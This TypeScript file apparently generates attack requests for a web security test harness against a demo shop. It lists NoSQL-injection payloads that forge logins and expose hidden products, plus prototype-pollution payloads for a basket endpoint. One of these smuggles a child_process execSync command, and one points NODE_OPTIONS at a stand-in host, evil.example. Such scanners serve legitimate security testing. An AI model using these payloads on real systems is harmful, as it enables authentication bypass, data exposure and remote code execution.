import { createAuthor, type Draft, encode } from "./draft.ts";

/** Query operators where texts are expected, and properties of every object's prototype. */
export function objectAttacks(): Draft[] {
  return [...operators(), ...pollution()];
}

function operators(): Draft[] {
  const { get, form, json } = createAuthor("nosqli");
  const api = { oracle: "forged-login", expectDirect: 200 } as const;
  const page = { oracle: "forged-login", expectDirect: 303 } as const;
  const rows = { oracle: "hidden-rows", expectDirect: 200 } as const;
  return [
    json("/api/login", { email: { $ne: null }, password: { $ne: null } }, api),
    json("/api/login", { email: { $gt: "" }, password: { $gt: "" } }, api),
    json("/api/login", { email: "admin@harbour-pine.example", password: { $ne: 1 } }, api),
    json("/api/login", { email: "piet@harbour-pine.example", password: { $regex: "^w" } }, api),
    json("/api/login", { email: { $regex: "^admin", $options: "i" }, password: { $exists: true } }, api),
    json("/api/login", { email: { $in: ["admin@harbour-pine.example", "root"] }, password: { $nin: ["x"] } }, api),
    json("/api/login", { email: { $not: { $eq: "x" } }, password: { $not: { $eq: "x" } } }, api),
    json("/api/login", { email: { $exists: true }, password: { $exists: true }, $or: [{ role: "admin" }, { role: "staff" }] }, api),
    json("/api/login", { email: { $ne: "" }, password: { $ne: "" }, $where: "return true" }, api),
    json("/api/login", '{"email":{"\\u0024ne":null},"password":{"\\u0024gt":""}}', api),
    json("/api/login", { email: { $ne: "x" }, password: { $ne: "x" }, $where: "1==1" }, api),
    form("/login", "email[$ne]=x&password[$ne]=x", page),
    form("/login", "email%5B%24gt%5D=&password%5B%24gt%5D=", page),
    form("/login", "email=admin%40harbour-pine.example&password[$regex]=.*", page),
    form("/login", "email[$in][]=x&email[$exists]=1&password[$nin][]=x", {}),
    form("/login", "email[$not][$eq]=x&password[%24ne]=", page),
    get(`/api/products?filter=${encode('{"released":{"$ne":2}}')}`, rows),
    get(`/api/products?filter=${encode('{"released":false}')}`, rows),
    get(`/api/products?filter=${encode('{"$or":[{"released":true},{"released":false}],"released":{"$exists":true}}')}`, rows),
    get(`/api/products?filter=${encode('{"released":{"$in":[true,false]},"name":{"$regex":"^UNREL"}}')}`, { expectDirect: 200 }),
    get(`/api/products?filter={"released":{"$gte":false}}`, { expectDirect: 200 }),
  ];
}

function pollution(): Draft[] {
  const { form, json } = createAuthor("prototype-pollution");
  const works = { oracle: "polluted", expectDirect: 200 } as const;
  let deep = '{"isAdmin":true}';
  for (let level = 0; level < 6; level += 1) deep = `{"${level % 2 === 0 ? "__proto__" : "options"}":${deep}}`;
  return [
    json("/api/basket", '{"product":3,"quantity":1,"__proto__":{"isAdmin":true}}', works),
    json("/api/basket", '{"product":3,"constructor":{"prototype":{"isAdmin":true}}}', works),
    json("/api/basket", '{"product":3,"options":{"__proto__":{"role":"admin"}}}', works),
    json("/api/basket", '{"product":3,"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":1}}', works),
    json("/api/basket", '{"a":{"b":{"constructor":{"prototype":{"discount":100}}}}}', works),
    json("/api/basket", '{"items":[{"product":3,"__proto__":{"discount":99}}]}', works),
    json("/api/basket", '{"__proto__":{"__proto__":{"isAdmin":true}}}', works),
    json("/api/basket", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\')//"}}', works),
    json("/api/basket", '{"__proto__":{"shell":"/bin/sh","NODE_OPTIONS":"--inspect=evil.example"}}', works),
    json("/api/basket", deep, works),
    form("/basket", "product=3&quantity=1&__proto__[isAdmin]=true", works),
    form("/basket", "product=3&constructor[prototype][role]=admin", works),
    form("/basket", "product=3&__proto__.isAdmin=true", works),
    form("/basket", "product=3&__proto__%5BisAdmin%5D=1&__proto__%5Bdiscount%5D=100", works),
    form("/basket", "product=3&options[__proto__][isAdmin]=1", works),
    form("/basket", "product=3&%5F%5Fproto%5F%5F[role]=admin", works),
  ];
}
